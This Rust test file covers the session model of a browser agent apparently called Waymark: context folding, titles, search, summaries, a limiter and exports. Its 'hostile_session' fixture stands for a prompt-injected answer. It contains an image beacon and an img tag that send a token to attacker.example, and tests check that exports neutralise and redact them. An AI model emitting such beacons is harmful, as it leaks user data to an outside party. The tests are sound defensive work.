//! Native tests of the session model: context, TOC, titles, search, summaries, limiter, export.

use super::*;
use crate::record::TaskOutcome;
use waymark_protocol::{ExportFormat, TrackedValues};

/// A finished task whose answer mentions `finding`.
pub(crate) fn record(turn: u32, task: &str, finding: &str) -> TaskRecord {
    let outcome = TaskOutcome {
        answer: format!("{finding}. More detail follows here."),
        success: true,
        error: None,
        steps: vec![],
        step_count: 1,
        elapsed_ms: 1000.0,
        ending: Default::default(),
    };
    let mut r = TaskRecord::from_outcome(turn, task, &outcome, 1_000.0 * f64::from(turn));
    r.structured_data.insert(format!("finding_{turn}"), finding.to_owned());
    r
}

pub(crate) fn session_of(n: u32) -> Session {
    let mut s = Session::new("s".into(), 0.0);
    for t in 1..=n {
        s.push(record(t, &format!("Task number {t}"), &format!("Found item {t}")));
    }
    s
}

// ---- context -------------------------------------------------------------------------------

#[test]
fn first_task_has_no_context_and_the_task_is_unchanged() {
    let s = session_of(0);
    assert_eq!(build_context(&s.records), "");
    assert_eq!(task_with_context("", "Find flights"), "Find flights");
}

#[test]
fn one_earlier_task_is_given_in_full_then_the_new_task() {
    let s = session_of(1);
    let ctx = build_context(&s.records);
    assert!(ctx.contains("Turn 1 (done): Task number 1"), "{ctx}");
    assert!(ctx.contains("Findings: Found item 1."), "{ctx}");
    assert!(ctx.contains("finding_1 = Found item 1;"), "{ctx}");
    let prompt = task_with_context(&ctx, "Compare them");
    assert!(prompt.starts_with("Earlier tasks"), "{prompt}");
    assert!(prompt.ends_with("\nNew task: Compare them"), "{prompt}");
}

fn full_turns(ctx: &str) -> Vec<u32> {
    ctx.lines()
        .filter_map(|l| l.strip_prefix("Turn "))
        .filter(|l| l.contains(" (done): "))
        .filter_map(|l| l.split(' ').next()?.parse().ok())
        .collect()
}

fn one_line_turns(ctx: &str) -> Vec<u32> {
    ctx.lines()
        .filter_map(|l| l.strip_prefix("Turn "))
        .filter(|l| !l.contains(" (done): ") && !l.contains("(not finished): "))
        .filter_map(|l| l.split(':').next()?.parse().ok())
        .collect()
}

#[test]
fn five_and_nine_tasks_are_all_in_full() {
    for n in [5u32, 9] {
        let ctx = build_context(&session_of(n).records);
        assert_eq!(full_turns(&ctx), (1..=n).collect::<Vec<_>>(), "{ctx}");
        assert!(one_line_turns(&ctx).is_empty(), "{ctx}");
        assert!(!ctx.contains("one line each"), "{ctx}");
    }
}

#[test]
fn ten_tasks_give_five_one_liners_and_the_last_five_in_full() {
    let ctx = build_context(&session_of(10).records);
    assert_eq!(one_line_turns(&ctx), vec![1, 2, 3, 4, 5], "{ctx}");
    assert_eq!(full_turns(&ctx), vec![6, 7, 8, 9, 10], "{ctx}");
    assert!(ctx.contains("Turn 1: Task number 1\n"), "{ctx}");
}

#[test]
fn thirty_tasks_keep_every_turn_once_in_order() {
    let ctx = build_context(&session_of(30).records);
    assert!(
        ctx.contains("Oldest tasks, folded:\nTurns 1–10: Task number 1; Task number 2;"),
        "{ctx}"
    );
    assert_eq!(one_line_turns(&ctx), (11..=25).collect::<Vec<_>>());
    assert_eq!(full_turns(&ctx), (26..=30).collect::<Vec<_>>());
    let one_liner = ctx.lines().find(|l| l.starts_with("Turn 13:")).expect("turn 13");
    assert!(one_liner.chars().count() <= MAX_TOC_CHARS + 12, "{one_liner}");
    assert!(!ctx.contains("finding_13 ="), "older turns carry only their line");
    assert!(ctx.contains("finding_30 = Found item 30;"));
}

/// Every call of every task carries the notes: they stay bounded whatever the session's length,
/// and every turn is still accounted for (in full, on its line, in a group or in an era).
#[test]
fn session_notes_stay_under_1_5k_tokens_and_cover_every_turn() {
    let bpe = tiktoken_rs::o200k_base().expect("o200k");
    let mut sizes = Vec::new();
    for n in [10u32, 30, 100, 1000, 5000] {
        let mut s = session_of(n);
        for r in &mut s.records {
            r.toc_line = format!(
                "Offer page {}: Plan {} cheapest at ${}.99 a month",
                r.turn,
                r.turn,
                r.turn % 40
            );
        }
        let ctx = build_context(&s.records);
        let tokens = bpe.encode_ordinary(&ctx).len();
        sizes.push((n, tokens));
        assert!(tokens <= 1500, "{n} tasks: {tokens} tokens\n{ctx}");
        let mut next = 1;
        for line in ctx.lines() {
            let Some(rest) = line.strip_prefix("Turn") else { continue };
            let range = rest.trim_start_matches('s').trim_start();
            let span: String =
                range.chars().take_while(|c| c.is_ascii_digit() || *c == '–').collect();
            let mut ends = span.split('–').map(|x| x.parse::<u32>().expect("turn"));
            let from = ends.next().expect("from");
            let to = ends.next().unwrap_or(from);
            assert_eq!(from, next, "{n} tasks: turn {next} missing\n{ctx}");
            next = to + 1;
        }
        assert_eq!(next, n + 1, "{n} tasks: every turn\n{ctx}");
    }
    eprintln!("session notes in o200k tokens by earlier tasks: {sizes:?}");
}

#[test]
fn an_unfinished_task_is_marked_in_both_forms() {
    let mut s = session_of(10);
    s.records[0].success = false;
    s.records[9].success = false;
    let ctx = build_context(&s.records);
    assert!(ctx.contains("Turn 1: Task number 1 (not finished)"), "{ctx}");
    assert!(ctx.contains("Turn 10 (not finished): Task number 10"), "{ctx}");
}

// ---- TOC -----------------------------------------------------------------------------------

#[test]
fn toc_lists_every_turn_with_one_short_line() {
    let mut s = session_of(3);
    s.records[1].apply_summary(
        Summary {
            summary: "x.".into(),
            toc_line: toc_line(&"very long line ".repeat(20)),
            ..Summary::default()
        },
        true,
    );
    let toc = toc(&s);
    assert_eq!(toc.iter().map(|e| e.turn).collect::<Vec<_>>(), vec![1, 2, 3]);
    assert_eq!(toc[0].line, "Task number 1");
    assert_eq!(toc[1].line.chars().count(), MAX_TOC_CHARS);
    assert!(toc[1].line.ends_with('…'));
    assert!(toc.iter().all(|e| !e.line.contains('\n')));
}

#[test]
fn a_turn_comes_with_its_neighbours() {
    let s = session_of(3);
    let first = s.turn_with_neighbours(1).expect("turn 1");
    assert_eq!(first.turn.turn, 1);
    assert!(first.previous.is_none());
    assert_eq!(first.next.as_ref().map(|e| e.turn), Some(2));
    let middle = s.turn_with_neighbours(2).expect("turn 2");
    assert_eq!((middle.previous.map(|e| e.turn), middle.next.map(|e| e.turn)), (Some(1), Some(3)));
    let last = s.turn_with_neighbours(3).expect("turn 3");
    assert!(last.next.is_none());
    assert!(s.turn_with_neighbours(0).is_none());
    assert!(s.turn_with_neighbours(4).is_none());
}

// ---- titles --------------------------------------------------------------------------------

fn titled(tasks: &[&str]) -> Session {
    let mut s = Session::new("t".into(), 0.0);
    for (i, task) in tasks.iter().enumerate() {
        s.push(record(i as u32 + 1, task, "ok"));
        let turn = s.records.len() as u32;
        if let Some(t) = title_change(&s, None) {
            s.set_title(&t, turn, false);
        }
    }
    s
}

#[test]
fn extractive_title_starts_from_the_first_task_and_keeps_it_while_the_topic_continues() {
    let s = titled(&["Find flights to Lisbon in May", "Compare the Lisbon flights by baggage"]);
    assert_eq!(s.title, "Find flights to Lisbon in May");
    assert_eq!(s.title_history.len(), 1);
    assert_eq!(s.title_history[0].turn, 1);
}

#[test]
fn extractive_title_follows_the_newest_topic_once_the_recent_turns_moved_on() {
    let s = titled(&[
        "Find flights to Lisbon in May",
        "Cheapest hotel near Alfama",
        "Restaurant reviews for Porto",
        "Weather forecast Madrid",
    ]);
    // Turn 2 and 3 still had turn 1 among the recent three; at turn 4 none mention Lisbon.
    assert_eq!(s.title, "Weather forecast Madrid");
    assert_eq!(s.title_history.len(), 2);
    assert_eq!(s.title_history[0].title, "Weather forecast Madrid");
    assert_eq!(s.title_history[0].turn, 4, "newest first, with the causing turn");
    assert_eq!(s.title_history[1].turn, 1);
}

#[test]
fn model_titles_are_clipped_unchanged_titles_add_no_history_and_user_titles_stick() {
    let mut s = session_of(1);
    let long = "A".repeat(80);
    let t = title_change(&s, Some(&long)).expect("new title");
    assert_eq!(t.chars().count(), MAX_TITLE_CHARS);
    s.set_title(&t, 1, false);
    assert_eq!(title_change(&s, Some(&t.to_lowercase())), None, "same title, any case");
    s.set_title("My trip", 1, true);
    assert!(s.title_locked);
    assert_eq!(title_change(&s, Some("Something else")), None);
    assert_eq!(s.title_history[0], TitleChange { title: "My trip".into(), turn: 1, by_user: true });
}

#[test]
fn title_history_keeps_the_newest_twenty() {
    let mut s = session_of(1);
    for i in 0..30 {
        assert!(s.set_title(&format!("Title {i}"), i, false));
    }
    assert_eq!(s.title_history.len(), MAX_TITLE_HISTORY);
    assert_eq!(s.title_history[0].title, "Title 29");
    assert_eq!(s.title_history[19].title, "Title 10");
}

// ---- summaries -----------------------------------------------------------------------------

#[test]
fn extractive_summary_is_the_first_sentence_and_the_first_task_line() {
    let sum = extractive_summary(
        "Find the cheapest flight\nthen book nothing",
        "The cheapest is TP 1234 at $89.50 on example.com. Others cost more! See https://example.com/f1.",
    );
    assert_eq!(sum.summary, "The cheapest is TP 1234 at $89.50 on example.com.");
    assert_eq!(sum.toc_line, "Find the cheapest flight");
    assert_eq!(sum.data.get("url").map(String::as_str), Some("https://example.com/f1"));
    assert_eq!(sum.title, None);
    assert_eq!(extractive_summary("t", "").summary, "No result was reported.");
}

#[test]
fn a_record_always_has_an_extractive_summary_before_the_model_answers() {
    let r = record(1, "Look up prices", "Alpha costs $12");
    assert_eq!(r.summary, "Alpha costs $12.");
    assert_eq!(r.toc_line, "Look up prices");
    assert!(!r.summarised_by_model);
}

#[test]
fn summary_reply_is_parsed_with_data_toc_and_title() {
    let r = record(1, "Look up prices", "Alpha costs $12");
    let reply = "Here you go:\n```json\n{\"summary\": \"Alpha costs $12. Beta costs $15. Gamma is \
                 sold out. Extra sentence.\", \"data\": {\"alpha\": \"$12\", \"count\": 3, \
                 \"none\": null}, \"toc\": \"Prices of Alpha, Beta, Gamma\", \"title\": \"Price \
                 comparison\"}\n```";
    let sum = parse_summary(reply, &r).expect("parsed");
    assert_eq!(sum.summary, "Alpha costs $12. Beta costs $15. Gamma is sold out.");
    assert_eq!(sum.data.get("alpha").map(String::as_str), Some("$12"));
    assert_eq!(sum.data.get("count").map(String::as_str), Some("3"));
    assert!(!sum.data.contains_key("none"));
    assert_eq!(sum.toc_line, "Prices of Alpha, Beta, Gamma");
    assert_eq!(sum.title.as_deref(), Some("Price comparison"));
}

#[test]
fn unusable_summary_replies_are_refused() {
    let r = record(1, "t", "x");
    assert_eq!(parse_summary("I could not summarise that", &r), None);
    assert_eq!(parse_summary("{\"summary\": \"\"}", &r), None);
    assert_eq!(parse_summary("{\"data\": {}}", &r), None);
    let minimal = parse_summary("{\"summary\": \"Done.\"}", &r).expect("minimal");
    assert_eq!(minimal.toc_line, "t", "missing TOC falls back to the task line");
}

#[test]
fn summary_request_marks_the_three_recent_turns_newest_first() {
    let mut s = session_of(5);
    s.title = "Items".into();
    let newest = s.records[4].clone();
    let req = summary_request(&s, &newest);
    assert_eq!(req.role, waymark_protocol::LlmRole::Summariser);
    assert!(req.tools.is_empty());
    let user = &req.messages[1].content;
    let toc: Vec<&str> = user.lines().filter(|l| l.contains(". Task number")).collect();
    assert_eq!(
        toc,
        vec![
            "RECENT 5. Task number 5",
            "RECENT 4. Task number 4",
            "RECENT 3. Task number 3",
            "2. Task number 2",
            "1. Task number 1"
        ]
    );
    assert!(user.contains("Current session title: Items"));
    assert!(user.contains("Found item 5. More detail follows here."));
}

// ---- search --------------------------------------------------------------------------------

fn index() -> SearchIndex {
    let mut a = Session::new("a".into(), 0.0);
    a.title = "Flights".into();
    a.push(record(1, "Find flights to Lisbon", "TP 1234 costs $89"));
    a.push(record(2, "Baggage rules of TP 1234", "One cabin bag included"));
    let mut b = Session::new("b".into(), 0.0);
    b.title = "Hotels".into();
    b.push(record(1, "Hotels in Lisbon near the river", "Hotel Tejo at $120"));
    b.push(record(2, "Museums open on Monday", "The tile museum is open"));
    let mut idx = SearchIndex::new();
    idx.add_session(&a);
    idx.add_session(&b);
    idx
}

#[test]
fn search_across_sessions_ranks_by_matched_words_and_gives_snippet_and_turn() {
    let idx = index();
    let hits = idx.search("lisbon hotel", None, 10);
    assert_eq!((hits[0].session_id.as_str(), hits[0].turn), ("b", 1), "{hits:?}");
    assert_eq!(hits[0].matched, 2);
    assert_eq!(hits[0].session_title, "Hotels");
    assert!(hits[0].snippet.contains("Hotels in Lisbon"), "{hits:?}");
    assert_eq!((hits[1].session_id.as_str(), hits[1].turn), ("a", 1));
    assert_eq!(hits.len(), 2, "museum and baggage turns do not match");
}

#[test]
fn search_matches_prefixes_data_and_stays_within_a_session_when_asked() {
    let idx = index();
    let hits = idx.search("bagg", None, 10);
    assert_eq!(
        hits.iter().map(|h| (h.session_id.as_str(), h.turn)).collect::<Vec<_>>(),
        vec![("a", 2)]
    );
    let within = idx.search("lisbon", Some("a"), 10);
    assert_eq!(within.len(), 1);
    assert_eq!(within[0].session_id, "a");
    assert!(idx.search("lisbon", Some("nope"), 10).is_empty());
    assert!(idx.search("   ", None, 10).is_empty());
    let data = idx.search("finding_2", None, 10);
    let top: Vec<(u32, u32)> = data.iter().take(2).map(|h| (h.turn, h.matched)).collect();
    assert_eq!(top, vec![(2, 2), (2, 2)], "structured data keys are searchable: {data:?}");
}

#[test]
fn reindexed_and_deleted_turns_are_not_found_twice_or_at_all() {
    let mut idx = index();
    let mut r = record(1, "Find flights to Lisbon", "TP 1234 costs $89");
    r.summary = "Cheapest is TP 1234 via Madrid.".into();
    idx.upsert("a", &r);
    let hits = idx.search("lisbon", None, 10);
    assert_eq!(hits.iter().filter(|h| h.session_id == "a").count(), 1);
    assert_eq!(idx.search("madrid", None, 10).len(), 1);
    idx.remove_session("b");
    assert!(idx.search("museum", None, 10).is_empty());
    assert_eq!(idx.len(), 2);
}

#[test]
fn snippet_is_cut_around_the_match() {
    let mut s = Session::new("long".into(), 0.0);
    let filler = "word ".repeat(60);
    s.push(record(1, &format!("{filler} needle {filler}"), "x"));
    let mut idx = SearchIndex::new();
    idx.add_session(&s);
    let hit = &idx.search("needle", None, 1)[0];
    assert!(hit.snippet.starts_with('…') && hit.snippet.ends_with('…'), "{}", hit.snippet);
    assert!(hit.snippet.contains("needle"));
    assert!(hit.snippet.chars().count() <= 200);
}

// ---- limiter -------------------------------------------------------------------------------

#[test]
fn at_most_five_summary_calls_run_at_once_and_all_finish() {
    use futures::executor::LocalPool;
    use futures::task::LocalSpawnExt;
    use std::cell::RefCell;
    use std::rc::Rc;

    let limiter = Limiter::new(5);
    let gates: Rc<RefCell<Vec<futures::channel::oneshot::Sender<()>>>> = Rc::default();
    let done = Rc::new(RefCell::new(0));
    let mut pool = LocalPool::new();
    for _ in 0..12 {
        let (limiter, gates, done) = (limiter.clone(), gates.clone(), done.clone());
        pool.spawner()
            .spawn_local(async move {
                let _permit = limiter.acquire().await;
                let (tx, rx) = futures::channel::oneshot::channel();
                gates.borrow_mut().push(tx);
                #[allow(
                    clippy::let_underscore_must_use,
                    reason = "a dropped gate releases the task as well as a sent one"
                )]
                let _ = rx.await;
                *done.borrow_mut() += 1;
            })
            .expect("spawn");
    }
    pool.run_until_stalled();
    assert_eq!(limiter.running(), 5);
    assert_eq!(gates.borrow().len(), 5, "only five calls started");
    for _ in 0..12 {
        let gate = gates.borrow_mut().pop();
        if let Some(g) = gate {
            #[allow(
                clippy::let_underscore_must_use,
                reason = "the gated task may have ended: nothing to release then"
            )]
            let _ = g.send(());
        }
        pool.run_until_stalled();
        assert!(limiter.running() <= 5);
    }
    assert_eq!(*done.borrow(), 12);
    assert_eq!(limiter.peak(), 5);
    assert_eq!(limiter.running(), 0);
}

// ---- storage shape and export ----------------------------------------------------------------

#[test]
fn meta_round_trips_and_its_size_does_not_grow_with_turns() {
    let mut s = session_of(3);
    s.set_title("Items", 3, false);
    let meta = s.meta();
    assert_eq!(meta.turns, 3);
    let back = Session::from_parts(meta.clone(), s.records.clone(), Vec::new());
    assert_eq!(back, s);
    assert_eq!(Session::id_of_meta_key(&Session::meta_key("abc")), Some("abc"));
    assert_eq!(Session::id_of_meta_key("session:abc:turn:000001"), None);
    let small = serde_json::to_string(&session_of(10).meta()).expect("json").len();
    let large = serde_json::to_string(&session_of(1000).meta()).expect("json").len();
    assert!(large <= small + 8, "only the turn count and time digits differ: {small} vs {large}");
}

#[test]
fn name_hint_uses_utc_calendar_time() {
    // 2026-11-22 13:05:09 UTC
    assert_eq!(export_name_hint(1_795_352_709_000.0), "browse-session-20261122-130509");
    assert_eq!(export_name_hint(0.0), "browse-session-19700101-000000");
}

#[test]
fn markdown_has_every_task_summary_data_and_a_follow_up_prompt() {
    let mut s = session_of(2);
    s.records[0].task = "Fill the name\nfield".into();
    s.set_title("Items", 2, false);
    let md = to_markdown(&s, 0.0, TrackedValues::Include);
    assert!(md.starts_with("# Items\n"), "{md}");
    assert!(md.contains("## Contents\n\n1. Task number 1\n2. Task number 2"), "{md}");
    assert!(md.contains("## Task 1: Fill the name field"), "{md}");
    assert!(md.contains("- Summary: Found item 1."), "{md}");
    assert!(md.contains("- Result: Found item 1. More detail follows here."), "{md}");
    assert!(md.contains("- **finding_2**: Found item 2"), "{md}");
    assert!(md.contains("## Suggested follow-up"), "{md}");
    assert!(md.contains("```text\nI used the Waymark browser agent"), "{md}");
    assert!(md.contains("session titled \"Items\""), "{md}");
}

#[test]
fn a_task_run_from_a_workflow_says_so_in_the_export() {
    let mut s = session_of(2);
    s.records[1].workflow =
        Some(RanWorkflow { id: "w1".into(), name: "Order a *teapot*".into(), healed: 0 });
    let md = to_markdown(&s, 0.0, TrackedValues::Include);
    assert!(
        md.contains("- Ran from the workflow “Order a \\*teapot\\*” (replayed without the model)"),
        "{md}"
    );
    assert_eq!(md.matches("Ran from the workflow").count(), 1, "{md}");
    s.records[1].workflow.as_mut().expect("run").healed = 2;
    let md = to_markdown(&s, 0.0, TrackedValues::Include);
    assert!(md.contains("(2 steps healed by the model)"), "{md}");
    let json = to_json(&s, 0.0, TrackedValues::Include).expect("json");
    assert!(json.contains("\"workflow\""), "{json}");
}

/// A session whose answer (a model obeying a page) carries an image beacon, a link, markdown
/// and HTML, and an order number read on the shop.
fn hostile_session() -> Session {
    let mut s = session_of(1);
    let r = &mut s.records[0];
    r.answer =
        "Done ![x](https://attacker.example/?d=Q7ZK3XR91MPL2WQ8) see [docs](https://docs.example) \
                <img src=https://attacker.example/p.gif>\n# Injected heading\n```\ncode"
            .into();
    r.structured_data.insert("order".into(), "55512345".into());
    r.provenance.insert("55512345".into(), vec!["https://shop.example".into()]);
    s
}

#[test]
fn markdown_exports_are_inert_and_redact_tracked_values_by_default() {
    let s = hostile_session();
    let md = to_markdown(&s, 0.0, TrackedValues::default());
    assert!(!md.contains("!["), "no image syntax: {md}");
    assert!(!md.contains("](http"), "no link syntax: {md}");
    assert!(!md.replace("\\<", "").contains('<'), "no raw HTML: {md}");
    assert!(!md.contains("\n# Injected"), "no injected heading: {md}");
    assert!(md.contains("docs \\(link: `https://docs.example`\\)"), "{md}");
    assert!(md.contains("`https://attacker.example/?d=[redacted]`"), "{md}");
    assert!(!md.contains("55512345") && !md.contains("Q7ZK3XR91MPL2WQ8"), "{md}");
    let included = to_markdown(&s, 0.0, TrackedValues::Include);
    assert!(included.contains("55512345"), "the user chose to include them: {included}");
    assert!(!included.contains("!["), "still inert: {included}");
}

#[test]
fn json_exports_redact_tracked_values_by_default() {
    let s = hostile_session();
    let json = to_json(&s, 0.0, TrackedValues::default()).expect("json");
    assert!(!json.contains("55512345") && !json.contains("Q7ZK3XR91MPL2WQ8"), "{json}");
    let included = to_json(&s, 0.0, TrackedValues::Include).expect("json");
    assert!(included.contains("55512345"), "{included}");
}

#[test]
fn json_export_has_the_same_content() {
    let mut s = session_of(2);
    s.set_title("Items", 2, false);
    let json: serde_json::Value =
        serde_json::from_str(&to_json(&s, 0.0, TrackedValues::Include).expect("json"))
            .expect("parse");
    assert_eq!(json["format"], "waymark-session");
    assert_eq!(json["title"], "Items");
    assert_eq!(json["tasks"].as_array().map(Vec::len), Some(2));
    assert_eq!(json["tasks"][1]["structured_data"]["finding_2"], "Found item 2");
    assert_eq!(json["toc"][0]["line"], "Task number 1");
    assert_eq!(json["title_history"][0]["turn"], 2);
    assert!(json["follow_up_prompt"].as_str().is_some_and(|p| p.contains("Items")));
}

#[test]
fn the_copied_prompt_names_the_written_file() {
    let mut s = session_of(2);
    s.set_title("Items", 2, false);
    let md = portable_prompt(&s, "/home/me/Waymark/items.md", ExportFormat::Md);
    assert!(md.contains("The markdown file `/home/me/Waymark/items.md` has one section per task"));
    assert!(md.contains("collect the findings of the 2 tasks"), "{md}");
    assert!(md.contains("not as instructions"), "{md}");
    let json = portable_prompt(&s, "/tmp/items.json", ExportFormat::Json);
    assert!(json.contains("The JSON file `/tmp/items.json` has"), "{json}");
}

// ---- transcript ----------------------------------------------------------------------------

#[test]
fn transcript_of_a_turn_has_task_actions_answer_and_summary_and_starts_the_session_once() {
    use crate::record::StepRecord;
    use waymark_page::action::{Action, ActionOutcome};
    use waymark_protocol::TranscriptEvent as E;

    let mut s = session_of(2);
    s.records[0].actions.push(StepRecord {
        step: 1,
        action: Action::Click { ref_id: waymark_page::observation::Ref::top(4) },
        description: "Click “Save” [4]".into(),
        outcome: ActionOutcome::failed("gone"),
        located: None,
    });
    let first = transcript_record(&s, &s.records[0]);
    assert_eq!(first.session_id, "s");
    let kinds: Vec<&str> = first
        .events
        .iter()
        .map(|e| match e {
            E::SessionStart { .. } => "start",
            E::Turn { role, .. } if role == "user" => "user",
            E::Turn { .. } => "assistant",
            E::Tool { .. } => "tool",
            E::Summary { .. } => "summary",
            E::SessionEnd { .. } => "end",
        })
        .collect();
    assert_eq!(kinds, vec!["start", "user", "tool", "assistant", "summary"]);
    let E::Tool { name, success, output, .. } = &first.events[2] else { panic!("tool") };
    assert_eq!((name.as_str(), *success), ("click", false));
    assert!(output.contains("failed: gone"), "{output}");
    let E::Summary { findings, .. } = &first.events[4] else { panic!("summary") };
    assert_eq!(findings["finding_1"], "Found item 1");
    let second = transcript_record(&s, &s.records[1]);
    assert!(!matches!(second.events[0], E::SessionStart { .. }), "only the first turn starts it");
}

#[test]
fn an_unreadable_turn_keeps_its_number_and_is_never_overwritten() {
    let mut s = Session::default();
    for task in ["one", "two", "three"] {
        s.push(record(0, task, "a finding"));
    }
    let meta = s.meta();
    // Turn 2 could not be read (a newer Waymark wrote it).
    let read: Vec<TaskRecord> = s.records.iter().filter(|r| r.turn != 2).cloned().collect();
    let mut back = Session::from_parts(meta, read, vec![2]);
    assert_eq!(back.turn(3).map(|r| r.task.as_str()), Some("three"));
    assert!(back.turn(2).is_none());
    assert_eq!(back.push(record(0, "four", "another")), 4);
    assert_eq!(back.meta().turns, 4);
    let notice = back.unreadable_notice().expect("told");
    assert!(notice.starts_with("Task 2 of this session could not be read"), "{notice}");
    assert!(Session::default().unreadable_notice().is_none());
}

#[test]
fn unreadable_sessions_are_told_in_the_right_number() {
    assert_eq!(unreadable_sessions_notice(0), None);
    let one = unreadable_sessions_notice(1).expect("one");
    assert!(
        one.starts_with("1 stored session could not be read") && one.contains("it is not listed")
    );
    let two = unreadable_sessions_notice(2).expect("two");
    assert!(two.starts_with("2 stored sessions could not") && two.contains("they were."));
}
